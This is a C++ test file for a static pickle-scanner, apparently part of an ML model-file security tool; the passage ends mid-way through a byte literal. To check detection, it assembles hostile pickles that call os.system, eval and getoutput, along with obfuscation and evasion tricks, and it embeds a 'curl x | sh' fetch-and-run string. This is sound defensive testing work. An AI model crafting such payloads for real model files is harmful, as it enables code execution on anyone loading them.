// The symbolic pickle VM and the raw-pickle scanner, one test per technique. Hostile pickles are
// assembled opcode by opcode; nothing here unpickles anything.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "mlsc/scan/pickle.hpp"
#include "mlsc/scan/scanner.hpp"

namespace mlsc::scan::pickle {
namespace {

using namespace std::string_literals;

// --- a tiny pickle assembler ---------------------------------------------------------------

std::string le(std::uint64_t v, int n) {
  std::string out;
  for (int i = 0; i < n; ++i) out += static_cast<char>((v >> (8 * i)) & 0xFF);
  return out;
}

struct P {
  std::string b;

  P& raw(std::string_view s) {
    b += s;
    return *this;
  }
  P& op(char c) {
    b += c;
    return *this;
  }
  P& proto(int p) {
    b += '\x80';
    b += static_cast<char>(p);
    return *this;
  }
  P& frame(std::uint64_t n) {
    b += '\x95';
    b += le(n, 8);
    return *this;
  }
  P& sbu(std::string_view s) {
    b += '\x8c';
    b += static_cast<char>(s.size());
    b += s;
    return *this;
  }
  P& bu(std::string_view s) {
    b += 'X';
    b += le(s.size(), 4);
    b += s;
    return *this;
  }
  P& sbb(std::string_view s) {
    b += 'C';
    b += static_cast<char>(s.size());
    b += s;
    return *this;
  }
  P& sbs(std::string_view s) {
    b += 'U';
    b += static_cast<char>(s.size());
    b += s;
    return *this;
  }
  P& str0(std::string_view quoted) {
    b += 'S';
    b += quoted;
    b += '\n';
    return *this;
  }
  P& uni0(std::string_view s) {
    b += 'V';
    b += s;
    b += '\n';
    return *this;
  }
  P& global(std::string_view m, std::string_view n) {
    b += 'c';
    b += m;
    b += '\n';
    b += n;
    b += '\n';
    return *this;
  }
  P& inst(std::string_view m, std::string_view n) {
    b += 'i';
    b += m;
    b += '\n';
    b += n;
    b += '\n';
    return *this;
  }
  P& stack_global() { return op('\x93'); }
  P& memoize() { return op('\x94'); }
  P& binput(int i) {
    b += 'q';
    b += static_cast<char>(i);
    return *this;
  }
  P& binget(int i) {
    b += 'h';
    b += static_cast<char>(i);
    return *this;
  }
  P& put(std::string_view i) {
    b += 'p';
    b += i;
    b += '\n';
    return *this;
  }
  P& get(std::string_view i) {
    b += 'g';
    b += i;
    b += '\n';
    return *this;
  }
  P& int0(std::string_view i) {
    b += 'I';
    b += i;
    b += '\n';
    return *this;
  }
  P& binint1(int i) {
    b += 'K';
    b += static_cast<char>(i);
    return *this;
  }
  P& mark() { return op('('); }
  P& tuple() { return op('t'); }
  P& tuple1() { return op('\x85'); }
  P& tuple2() { return op('\x86'); }
  P& reduce() { return op('R'); }
  P& build() { return op('b'); }
  P& stop() { return op('.'); }
  P& pop() { return op('0'); }
  P& empty_dict() { return op('}'); }
  P& empty_list() { return op(']'); }
  P& setitem() { return op('s'); }

  ByteView view() const { return as_bytes(b); }
};

const ImportPolicy& policy() {
  static const ImportPolicy p = ImportPolicy::builtin();
  return p;
}

PickleRun vm(const P& p, Options options = {}) {
  return run(p.view(), 0, policy(), options);
}

const Import* find_import(const PickleRun& r, std::string_view module, std::string_view name) {
  for (const auto& i : r.imports) {
    if (i.module == module && i.name == name) return &i;
  }
  return nullptr;
}

bool has_anomaly(const PickleRun& r, std::string_view rule) {
  return std::any_of(r.anomalies.begin(), r.anomalies.end(),
                     [&](const Anomaly& a) { return a.rule == rule; });
}

bool dangerous(const Import* i) {
  return i != nullptr && i->resolved && i->verdict.verdict == ImportVerdict::dangerous;
}

FileReport scan(const std::string& bytes) {
  return scan_bytes("t.pkl", as_bytes(bytes), ScanOptions{});
}

bool has_rule(const FileReport& r, std::string_view rule, Severity at_least = Severity::info) {
  return std::any_of(r.findings.begin(), r.findings.end(),
                     [&](const Finding& f) { return f.rule == rule && f.severity >= at_least; });
}

Severity worst(const FileReport& r) {
  Severity s = Severity::none;
  for (const auto& f : r.findings) s = std::max(s, f.severity);
  return s;
}

// os.system('echo pwned') written the way pickle.dumps(protocol=4) writes a __reduce__.
P os_system_p4() {
  return std::move(P{}.proto(4)
                       .sbu("os")
                       .sbu("system")
                       .stack_global()
                       .sbu("echo pwned")
                       .tuple1()
                       .reduce()
                       .stop());
}

// --- imports and calls -----------------------------------------------------------------------

TEST(PickleVm, ReportsImportAndCallWithArgs) {
  const auto r = vm(os_system_p4());
  ASSERT_TRUE(r.reached_stop);
  const Import* i = find_import(r, "os", "system");
  ASSERT_NE(i, nullptr);
  EXPECT_TRUE(dangerous(i));
  EXPECT_EQ(i->source, ImportSource::stack_global);
  EXPECT_EQ(i->verdict.severity, Severity::critical);
  ASSERT_EQ(r.calls.size(), 1U);
  EXPECT_EQ(r.calls[0].kind, CallKind::reduce);
  EXPECT_EQ(r.calls[0].callee, "os.system");
  EXPECT_EQ(r.calls[0].args, "('echo pwned',)");
  EXPECT_EQ(r.calls[0].offset, 28U);
}

TEST(PickleVm, MemoAssembledStackGlobalNames) {
  // Names stored in the memo inside a decoy list, fetched back with BINGET.
  P p;
  p.proto(4)
      .empty_list()
      .memoize()
      .mark()
      .sbu("collections")
      .memoize()
      .sbu("os")
      .memoize()
      .sbu("OrderedDict")
      .memoize()
      .sbu("system")
      .memoize()
      .op('e')
      .pop()
      .binget(2)
      .binget(4)
      .stack_global()
      .sbu("id")
      .tuple1()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
  EXPECT_EQ(find_import(r, "collections", "OrderedDict"), nullptr);
}

TEST(PickleVm, PutAndMemoizeMixLikeCPython) {
  // MEMOIZE stores at the number of filled slots: after PUT 3 it lands at 1, then 2 (a
  // "highest index + 1" reading would use 4 and 5, and BINGET 1 would fail).
  P p;
  p.proto(4)
      .sbu("x")
      .binput(3)
      .pop()
      .sbu("os")
      .memoize()
      .pop()
      .sbu("system")
      .memoize()
      .pop()
      .binget(1)
      .binget(2)
      .stack_global()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
}

TEST(PickleVm, TextPutGetParseLikeInt) {
  P p;
  p.sbu("os")
      .put(" +0_07 ")
      .pop()
      .sbu("system")
      .put("8")
      .pop()
      .get("7")
      .get("0008")
      .stack_global()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
}

TEST(PickleVm, CallProducedNameFromEmulatedBuilderIsResolved) {
  // STACK_GLOBAL(_codecs.decode(_codecs.encode('os', 'latin1'), 'latin1'), 'system')
  P p;
  p.proto(2)
      .global("_codecs", "decode")
      .global("_codecs", "encode")
      .sbu("os")
      .sbu("latin1")
      .tuple2()
      .reduce()
      .sbu("latin1")
      .tuple2()
      .reduce()
      .sbu("system")
      .stack_global()
      .sbu("id")
      .tuple1()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  const Import* i = find_import(r, "os", "system");
  ASSERT_NE(i, nullptr);
  EXPECT_TRUE(dangerous(i));
  EXPECT_TRUE(i->resolved);
}

TEST(PickleVm, Rot13AndStrBuildersAreEmulated) {
  P p;
  p.proto(4)
      .sbu("codecs")
      .sbu("encode")
      .stack_global()
      .sbu("bf")
      .sbu("rot13")
      .tuple2()
      .reduce()
      .sbu("builtins")
      .sbu("str")
      .stack_global()
      .sbu("system")
      .tuple1()
      .reduce()
      .stack_global()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
}

TEST(PickleVm, CallProducedNameWeCannotEmulateIsUnresolved) {
  // The module name comes from a call to an unknown function: unknowable statically.
  P q;
  q.proto(4)
      .sbu("mylib")
      .sbu("make_name")
      .stack_global()
      .op(')')
      .reduce()
      .sbu("system")
      .stack_global()
      .sbu("id")
      .tuple1()
      .reduce()
      .stop();
  const auto r = vm(q);
  ASSERT_TRUE(r.reached_stop);
  const auto unresolved =
      std::find_if(r.imports.begin(), r.imports.end(), [](const Import& i) { return !i.resolved; });
  ASSERT_NE(unresolved, r.imports.end());
  EXPECT_EQ(unresolved->verdict.severity, Severity::critical);
  EXPECT_EQ(unresolved->name, "system");
}

TEST(PickleVm, Python2NamesMapBelowProtocol3) {
  // __builtin__.eval (protocol 0) is builtins.eval; commands.getoutput is subprocess.getoutput.
  P p;
  p.global("__builtin__", "eval")
      .mark()
      .str0("'1+1'")
      .tuple()
      .reduce()
      .pop()
      .global("commands", "getoutput")
      .mark()
      .str0("'id'")
      .tuple()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  EXPECT_TRUE(dangerous(find_import(r, "builtins", "eval")));
  EXPECT_TRUE(dangerous(find_import(r, "subprocess", "getoutput")));
  // protocol 3: no mapping; __builtin__ does not exist there but is still judged.
  P q;
  q.proto(3).global("__builtin__", "eval").stop();
  const auto r3 = vm(q);
  EXPECT_TRUE(dangerous(find_import(r3, "__builtin__", "eval")));
}

TEST(PickleVm, Py2SpellingOfSafeBuiltinStaysSafe) {
  P p;
  p.proto(2).global("__builtin__", "set").op(']').tuple1().reduce().stop();
  const auto r = vm(p);
  const Import* i = find_import(r, "builtins", "set");
  ASSERT_NE(i, nullptr);
  EXPECT_EQ(i->verdict.verdict, ImportVerdict::safe);
}

TEST(PickleVm, DottedNameResolvesThroughAttributes) {
  P p;
  p.proto(4).global("pathlib", "os.system").sbu("id").tuple1().reduce().stop();
  const auto r = vm(p);
  EXPECT_TRUE(dangerous(find_import(r, "pathlib", "os.system")));
  P q;
  q.proto(4).sbu("sklearn.utils").sbu("os").stack_global().stop();  // a module as attribute
  EXPECT_TRUE(dangerous(find_import(vm(q), "sklearn.utils", "os")));
  // Under protocol 2 CPython would raise; we still judge the path and say so.
  P old;
  old.proto(2).global("pathlib", "os.system").stop();
  const auto r2 = vm(old);
  EXPECT_TRUE(dangerous(find_import(r2, "pathlib", "os.system")));
  EXPECT_TRUE(has_anomaly(r2, "pickle.loader-divergence"));
}

TEST(PickleVm, StringOpcodeNamesWithEscapes) {
  // S'\x6fs' S'sys\164em' STACK_GLOBAL, no PROTO: protocol-0 escapes decode to os.system.
  P p;
  p.str0(R"('\x6fs')")
      .str0(R"("sys\164em")")
      .stack_global()
      .mark()
      .str0("'id'")
      .tuple()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
  P u;
  u.uni0(R"(\u006fs)").uni0(R"(syst\u0065m)").stack_global().stop();
  EXPECT_TRUE(dangerous(find_import(vm(u), "os", "system")));
  P b;
  b.proto(4).sbs("os").sbs("system").stack_global().stop();
  EXPECT_TRUE(dangerous(find_import(vm(b), "os", "system")));
}

TEST(PickleVm, StackGlobalOnNonStrStopsLikeCPython) {
  P p;
  p.proto(4).binint1(42).sbu("os").stack_global().stop();
  const auto r = vm(p);
  EXPECT_FALSE(r.reached_stop);
  ASSERT_TRUE(r.error.has_value());
  EXPECT_NE(r.error->message.find("STACK_GLOBAL requires str"), std::string::npos);
}

TEST(PickleVm, MissingMemoKeyStopsButPayloadBeforeIsReported) {
  P p = os_system_p4();
  p.b.pop_back();  // drop STOP
  p.pop().sbu("os").memoize().binget(3).stack_global().stop();
  const auto r = vm(p);
  EXPECT_FALSE(r.reached_stop);
  ASSERT_TRUE(r.error.has_value());
  EXPECT_NE(r.error->message.find("Memo value not found at index 3"), std::string::npos);
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
  EXPECT_EQ(r.calls.size(), 1U);
}

TEST(PickleVm, IntOpcodeBooleansAndOctal) {
  P p;
  p.mark().int0("01").int0("00").int0("010").int0("1").raw("L123L\n").tuple().stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_EQ(r.result_repr, "(True, False, 8, 1, 123)");
}

TEST(PickleVm, BigIntegersShowAsHex) {
  P p;
  p.proto(2).raw("\x8a\x09").raw(std::string(8, '\0') + "\x01").stop();
  EXPECT_EQ(vm(p).result_repr, "0x10000000000000000");
}

// --- framing ---------------------------------------------------------------------------------

TEST(PickleVm, FrameOverrunIsAnAnomalyNotAStop) {
  // The frame ends in the middle of the SHORT_BINUNICODE: the C unpickler reads on.
  P p;
  p.proto(4).frame(3).sbu("os").sbu("system").stack_global().stop();
  const auto r = vm(p);
  EXPECT_TRUE(r.reached_stop);
  EXPECT_TRUE(has_anomaly(r, "pickle.frame-mismatch"));
  EXPECT_TRUE(dangerous(find_import(r, "os", "system")));
}

TEST(PickleVm, FrameUnderrunAtStopIsReported) {
  P p;
  p.proto(4).frame(40).op('N').stop().raw(std::string(38, 'N'));
  const auto r = vm(p);
  EXPECT_TRUE(r.reached_stop);
  EXPECT_TRUE(has_anomaly(r, "pickle.frame-mismatch"));
}

TEST(PickleVm, ShortLastFrameStillReadsLikePurePython) {
  P body;
  body.sbu("nt").memoize().sbu("system").memoize().stack_global().stop();
  P p;
  p.proto(4).frame(body.b.size() + 3).raw(body.b);
  const auto r = vm(p);
  EXPECT_TRUE(r.reached_stop);
  EXPECT_TRUE(dangerous(find_import(r, "nt", "system")));
  EXPECT_TRUE(has_anomaly(r, "pickle.frame-mismatch"));
}

// --- BUILD and global state ----------------------------------------------------------------

TEST(PickleVm, BuildOnModulePlantsStateThatLaterLookupsSee) {
  // torch._utils.__dict__['_rebuild_tensor'] = 'builtins' / 'eval', then
  // STACK_GLOBAL(torch._utils._rebuild_tensor, torch._utils._rebuild_tensor) = builtins.eval.
  P p;
  p.proto(4)
      .sbu("torch._utils")
      .memoize()
      .sbu("_rebuild_tensor")
      .memoize()
      .sbu("torch")
      .sbu("_utils")
      .stack_global()
      .memoize()
      .empty_dict()
      .binget(1)
      .sbu("builtins")
      .setitem()
      .build()
      .pop()
      .binget(0)
      .binget(1)
      .stack_global()
      .binget(2)
      .empty_dict()
      .binget(1)
      .sbu("eval")
      .setitem()
      .build()
      .pop()
      .binget(0)
      .binget(1)
      .stack_global()
      .stack_global()
      .sbu("1")
      .tuple1()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
  EXPECT_TRUE(has_anomaly(r, "pickle.global-mutation"));
  EXPECT_TRUE(dangerous(find_import(r, "builtins", "eval")));
}

TEST(PickleVm, SlotStateDunderIsHigh) {
  P p;
  p.proto(4)
      .global("collections", "OrderedDict")
      .op(')')
      .reduce()
      .op('N')
      .empty_dict()
      .sbu("__class__")
      .global("builtins", "object")
      .setitem()
      .tuple2()
      .build()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  const auto a = std::find_if(r.anomalies.begin(), r.anomalies.end(),
                              [](const Anomaly& x) { return x.rule == "pickle.dunder-state"; });
  ASSERT_NE(a, r.anomalies.end());
  EXPECT_EQ(a->severity, Severity::high);
}

// --- getattr -------------------------------------------------------------------------------

TEST(PickleVm, GetattrOnAllowlistedEnumClassIsSafe) {
  // How Python >= 3.11 pickles transformers' IntervalStrategy.STEPS.
  P p;
  p.proto(4)
      .sbu("builtins")
      .sbu("getattr")
      .stack_global()
      .memoize()
      .sbu("transformers.trainer_utils")
      .sbu("IntervalStrategy")
      .stack_global()
      .sbu("STEPS")
      .tuple2()
      .reduce()
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  const Import* g = find_import(r, "builtins", "getattr");
  ASSERT_NE(g, nullptr);
  EXPECT_EQ(g->verdict.verdict, ImportVerdict::safe) << g->verdict.reason;
  for (const auto& i : r.imports) EXPECT_EQ(i.verdict.verdict, ImportVerdict::safe) << i.name;
}

TEST(PickleVm, GetattrOnModuleOrPrivateNameIsCritical) {
  P on_module;
  on_module.proto(4)
      .sbu("builtins")
      .sbu("getattr")
      .stack_global()
      .sbu("torch")
      .sbu("serialization")
      .stack_global()
      .sbu("load")
      .tuple2()
      .reduce()
      .stop();
  const auto r = vm(on_module);
  const Import* g = find_import(r, "builtins", "getattr");
  ASSERT_NE(g, nullptr);
  EXPECT_TRUE(dangerous(g));
  EXPECT_EQ(g->verdict.severity, Severity::critical);

  P dunder;
  dunder.proto(4)
      .sbu("builtins")
      .sbu("getattr")
      .stack_global()
      .sbu("collections")
      .sbu("OrderedDict")
      .stack_global()
      .sbu("__init__")
      .tuple2()
      .reduce()
      .stop();
  EXPECT_TRUE(dangerous(find_import(vm(dunder), "builtins", "getattr")));
}

TEST(PickleVm, GetattrResultCalledOrGetattrEscapingIsCritical) {
  P called;
  called.proto(4)
      .sbu("builtins")
      .sbu("getattr")
      .stack_global()
      .sbu("collections")
      .sbu("OrderedDict")
      .stack_global()
      .sbu("fromkeys")
      .tuple2()
      .reduce()
      .op(']')
      .tuple1()
      .reduce()
      .stop();
  EXPECT_TRUE(dangerous(find_import(vm(called), "builtins", "getattr")));
  P escaped;
  escaped.proto(4).empty_list().sbu("builtins").sbu("getattr").stack_global().op('a').stop();
  EXPECT_TRUE(dangerous(find_import(vm(escaped), "builtins", "getattr")));
}

// --- streams, through the scanner ------------------------------------------------------------

TEST(PickleScanner, ConcatenatedPicklesAreAllScanned) {
  P benign;
  benign.proto(4).empty_list().stop();
  const auto r = scan(benign.b + os_system_p4().b);
  EXPECT_EQ(r.format, "pickle");
  EXPECT_TRUE(has_rule(r, "pickle.dangerous-global", Severity::critical));
  EXPECT_FALSE(has_rule(r, "pickle.trailing-data"));
}

TEST(PickleScanner, StreamBrokenAfterPayloadReportsBoth) {
  P p = os_system_p4();
  p.b.pop_back();
  p.raw("\xff");  // invalid opcode where STOP should be
  const auto r = scan(p.b);
  EXPECT_TRUE(has_rule(r, "pickle.dangerous-global", Severity::critical));
  EXPECT_TRUE(has_rule(r, "pickle.malformed", Severity::medium));
}

TEST(PickleScanner, JunkAfterLastStopIsLowTrailingData) {
  const auto r = scan(os_system_p4().b + "\n\n\t\t");
  EXPECT_TRUE(has_rule(r, "pickle.trailing-data"));
  EXPECT_TRUE(has_rule(r, "pickle.dangerous-global", Severity::critical));
}

TEST(PickleScanner, TextIsNotAPickle) {
  EXPECT_FALSE(looks_like_pickle(as_bytes(std::string("I love pickles.\nThey are great.\n"))));
  EXPECT_FALSE(looks_like_pickle(as_bytes(std::string("{\"a\": 1}"))));
  EXPECT_FALSE(looks_like_pickle(as_bytes(std::string("cmod\n\xf8\n"))));
  EXPECT_TRUE(looks_like_pickle(os_system_p4().view()));
  EXPECT_TRUE(looks_like_pickle(as_bytes(std::string("(lp0\nS'a'\np1\na."))));
}

TEST(PickleScanner, PlainDataInEveryProtocolIsClean) {
  // pickle.dumps(['a', {'k': (1, 2.5, None, True)}], protocol=0..5) by CPython 3.11.
  const std::vector<std::string> pickles = {
      "(lp0\012Va\012p1\012a(dp2\012Vk\012p3\012(I1\012F2.5\012NI01\012tp4\012sa."s,
      "]q\000(X\001\000\000\000aq\001}q\002X\001\000\000\000kq\003(K\001G@\004\000\000\000"
      "\000\000\000NI01\012tq\004se."s,
      "\200\002]q\000(X\001\000\000\000aq\001}q\002X\001\000\000\000kq\003(K\001G@\004\000"
      "\000\000\000\000\000N\210tq\004se."s,
      "\200\003]q\000(X\001\000\000\000aq\001}q\002X\001\000\000\000kq\003(K\001G@\004\000"
      "\000\000\000\000\000N\210tq\004se."s,
      "\200\004\225 \000\000\000\000\000\000\000]\224(\214\001a\224}\224\214\001k\224(K\001G@"
      "\004\000\000\000\000\000\000N\210t\224se."s,
      "\200\005\225 \000\000\000\000\000\000\000]\224(\214\001a\224}\224\214\001k\224(K\001G@"
      "\004\000\000\000\000\000\000N\210t\224se."s,
  };

  for (std::size_t proto = 0; proto < pickles.size(); ++proto) {
    const std::string& p = pickles[proto];
    SCOPED_TRACE("protocol " + std::to_string(proto));
    const auto r = run(as_bytes(p), 0, policy(), {});
    ASSERT_TRUE(r.reached_stop) << (r.error ? r.error->describe() : "");
    EXPECT_TRUE(r.imports.empty());
    EXPECT_EQ(r.result_repr, "['a', {'k': (1, 2.5, None, True)}]");
    const auto report = scan(p);
    EXPECT_TRUE(report.findings.empty()) << report.findings.front().message;
  }
}

TEST(PickleScanner, NestedBase64PickleIsScannedAsMember) {
  // base64 of  PROTO 4, builtins.print('x') REDUCE STOP, stored as a str value.
  P p;
  p.proto(4)
      .empty_dict()
      .sbu("payload")
      .sbu("gASVGAAAAAAAAACMCGJ1aWx0aW5zjAVwcmludJOMAXiFUi4=")
      .setitem()
      .stop();
  const auto run_result = vm(p);
  ASSERT_EQ(run_result.nested.size(), 1U);
  EXPECT_EQ(run_result.nested[0].encoding, "base64");
  const auto r = scan(p.b);
  EXPECT_TRUE(has_rule(r, "pickle.nested-pickle", Severity::high));
  const auto inner = std::find_if(r.findings.begin(), r.findings.end(),
                                  [](const Finding& f) { return !f.member.empty(); });
  ASSERT_NE(inner, r.findings.end());
  EXPECT_EQ(inner->member, "<pickle@12:base64>");
}

TEST(PickleScanner, BinaryJwtAndChecksumsAreNotNestedPickles) {
  P p;
  p.proto(4)
      .empty_dict()
      .mark()
      .sbu("jwt")
      .sbu("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.abc")
      .sbu("json")
      .sbu("eyJoaWRkZW5fc2l6ZSI6IDc2OCwgIm51bV9sYXllcnMiOiAxMn0=")
      .sbu("hex")
      .sbu("deadbeefdeadbeefdeadbeefdeadbeef")
      .sbu("blob")
      .sbb("\x1f\x8b\x08\x00"s + "fake gzip data")
      .sbu("code")
      .sbu("model.eval() then compile the report")
      .op('u')
      .stop();
  const auto r = vm(p);
  ASSERT_TRUE(r.reached_stop);
  EXPECT_TRUE(r.nested.empty());
  EXPECT_TRUE(r.anomalies.empty()) << r.anomalies.front().message;
  EXPECT_TRUE(scan(p.b).findings.empty());
}

TEST(PickleScanner, SuspiciousCodeStringIsHigh) {
  P p;
  p.proto(4).empty_dict().sbu("cfg").sbu("import os; os.system('curl x | sh')").setitem().stop();
  const auto r = scan(p.b);
  EXPECT_TRUE(has_rule(r, "pickle.code-string", Severity::high));
}

TEST(PickleScanner, PersistentIdsOutsideTorchAreReported) {
  P p;
  p.proto(2).sbu("storage").tuple1().op('Q').stop();
  EXPECT_TRUE(has_rule(scan(p.b), "pickle.persistent-id", Severity::medium));
  Options torch;
  torch.torch_persistent_ids = true;
  EXPECT_FALSE(has_anomaly(vm(p, torch), "pickle.persistent-id"));
}

TEST(PickleScanner, ExtensionCodesAreUnresolvableImports) {
  P p;
  p.proto(2).raw("\x82\x07").stop();
  const auto r = scan(p.b);
  EXPECT_TRUE(has_rule(r, "pickle.extension-code", Severity::high));
}

// --- joblib ----------------------------------------------------------------------------------

// joblib.dump({'ints': arange(5), 'floats': ones((2, 3), float32), 'objs': array([1, 'a',
// None], dtype=object), 'text': array(['ab', 'cde']), 'rec': zeros(2, [('a', '<i4'), ('b',
// '<f8')])}) by joblib 1.2.0 / NumPy 1.24 (Debian python3-joblib).
const std::string& joblib_dump() {
  static const std::string kBytes(
      "\x80\x04\x95\xd5\x00\x00\x00\x00\x00\x00\x00\x7d\x94\x28\x8c\x04\x69\x6e\x74\x73\x94\x8c\x13"
      "\x6a"
      "\x6f\x62\x6c\x69\x62\x2e\x6e\x75\x6d\x70\x79\x5f\x70\x69\x63\x6b\x6c\x65\x94\x8c\x11\x4e\x75"
      "\x6d"
      "\x70\x79\x41\x72\x72\x61\x79\x57\x72\x61\x70\x70\x65\x72\x94\x93\x94\x29\x81\x94\x7d\x94\x28"
      "\x8c"
      "\x08\x73\x75\x62\x63\x6c\x61\x73\x73\x94\x8c\x05\x6e\x75\x6d\x70\x79\x94\x8c\x07\x6e\x64\x61"
      "\x72"
      "\x72\x61\x79\x94\x93\x94\x8c\x05\x73\x68\x61\x70\x65\x94\x4b\x05\x85\x94\x8c\x05\x6f\x72\x64"
      "\x65"
      "\x72\x94\x8c\x01\x43\x94\x8c\x05\x64\x74\x79\x70\x65\x94\x68\x08\x68\x0f\x93\x94\x8c\x02\x69"
      "\x38"
      "\x94\x89\x88\x87\x94\x52\x94\x28\x4b\x03\x8c\x01\x3c\x94\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a"
      "\xff"
      "\xff\xff\xff\x4b\x00\x74\x94\x62\x8c\x0a\x61\x6c\x6c\x6f\x77\x5f\x6d\x6d\x61\x70\x94\x88\x8c"
      "\x1b"
      "\x6e\x75\x6d\x70\x79\x5f\x61\x72\x72\x61\x79\x5f\x61\x6c\x69\x67\x6e\x6d\x65\x6e\x74\x5f\x62"
      "\x79"
      "\x74\x65\x73\x94\x4b\x10\x75\x62\x0f\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
      "\xff"
      "\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00"
      "\x00"
      "\x03\x00\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x95\x50\x00\x00\x00\x00\x00"
      "\x00"
      "\x00\x8c\x06\x66\x6c\x6f\x61\x74\x73\x94\x68\x04\x29\x81\x94\x7d\x94\x28\x68\x07\x68\x0a\x68"
      "\x0b"
      "\x4b\x02\x4b\x03\x86\x94\x68\x0d\x68\x0e\x68\x0f\x68\x10\x8c\x02\x66\x34\x94\x89\x88\x87\x94"
      "\x52"
      "\x94\x28\x4b\x03\x68\x14\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a\xff\xff\xff\xff\x4b\x00\x74\x94"
      "\x62"
      "\x68\x16\x88\x68\x17\x4b\x10\x75\x62\x0e\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"
      "\xff"
      "\x00\x00\x80\x3f\x00\x00\x80\x3f\x00\x00\x80\x3f\x00\x00\x80\x3f\x00\x00\x80\x3f\x00\x00\x80"
      "\x3f"
      "\x95\x4e\x00\x00\x00\x00\x00\x00\x00\x8c\x04\x6f\x62\x6a\x73\x94\x68\x04\x29\x81\x94\x7d\x94"
      "\x28"
      "\x68\x07\x68\x0a\x68\x0b\x4b\x03\x85\x94\x68\x0d\x68\x0e\x68\x0f\x68\x10\x8c\x02\x4f\x38\x94"
      "\x89"
      "\x88\x87\x94\x52\x94\x28\x4b\x03\x8c\x01\x7c\x94\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a\xff\xff"
      "\xff"
      "\xff\x4b\x3f\x74\x94\x62\x68\x16\x89\x68\x17\x4b\x10\x75\x62\x80\x02\x63\x6e\x75\x6d\x70\x79"
      "\x2e"
      "\x63\x6f\x72\x65\x2e\x6d\x75\x6c\x74\x69\x61\x72\x72\x61\x79\x0a\x5f\x72\x65\x63\x6f\x6e\x73"
      "\x74"
      "\x72\x75\x63\x74\x0a\x71\x00\x63\x6e\x75\x6d\x70\x79\x0a\x6e\x64\x61\x72\x72\x61\x79\x0a\x71"
      "\x01"
      "\x4b\x00\x85\x71\x02\x63\x5f\x63\x6f\x64\x65\x63\x73\x0a\x65\x6e\x63\x6f\x64\x65\x0a\x71\x03"
      "\x58"
      "\x01\x00\x00\x00\x62\x71\x04\x58\x06\x00\x00\x00\x6c\x61\x74\x69\x6e\x31\x71\x05\x86\x71\x06"
      "\x52"
      "\x71\x07\x87\x71\x08\x52\x71\x09\x28\x4b\x01\x4b\x03\x85\x71\x0a\x63\x6e\x75\x6d\x70\x79\x0a"
      "\x64"
      "\x74\x79\x70\x65\x0a\x71\x0b\x58\x02\x00\x00\x00\x4f\x38\x71\x0c\x89\x88\x87\x71\x0d\x52\x71"
      "\x0e"
      "\x28\x4b\x03\x58\x01\x00\x00\x00\x7c\x71\x0f\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a\xff\xff\xff"
      "\xff"
      "\x4b\x3f\x74\x71\x10\x62\x89\x5d\x71\x11\x28\x4b\x01\x58\x01\x00\x00\x00\x61\x71\x12\x4e\x65"
      "\x74"
      "\x71\x13\x62\x2e\x95\x46\x00\x00\x00\x00\x00\x00\x00\x8c\x04\x74\x65\x78\x74\x94\x68\x04\x29"
      "\x81"
      "\x94\x7d\x94\x28\x68\x07\x68\x0a\x68\x0b\x4b\x02\x85\x94\x68\x0d\x68\x0e\x68\x0f\x68\x10\x8c"
      "\x02"
      "\x55\x33\x94\x89\x88\x87\x94\x52\x94\x28\x4b\x03\x68\x14\x4e\x4e\x4e\x4b\x0c\x4b\x04\x4b\x08"
      "\x74"
      "\x94\x62\x68\x16\x88\x68\x17\x4b\x10\x75\x62\x04\xff\xff\xff\xff\x61\x00\x00\x00\x62\x00\x00"
      "\x00"
      "\x00\x00\x00\x00\x63\x00\x00\x00\x64\x00\x00\x00\x65\x00\x00\x00\x95\xa6\x00\x00\x00\x00\x00"
      "\x00"
      "\x00\x8c\x03\x72\x65\x63\x94\x68\x04\x29\x81\x94\x7d\x94\x28\x68\x07\x68\x0a\x68\x0b\x4b\x02"
      "\x85"
      "\x94\x68\x0d\x68\x0e\x68\x0f\x68\x10\x8c\x03\x56\x31\x32\x94\x89\x88\x87\x94\x52\x94\x28\x4b"
      "\x03"
      "\x68\x27\x4e\x8c\x01\x61\x94\x8c\x01\x62\x94\x86\x94\x7d\x94\x28\x68\x38\x68\x10\x8c\x02\x69"
      "\x34"
      "\x94\x89\x88\x87\x94\x52\x94\x28\x4b\x03\x68\x14\x4e\x4e\x4e\x4a\xff\xff\xff\xff\x4a\xff\xff"
      "\xff"
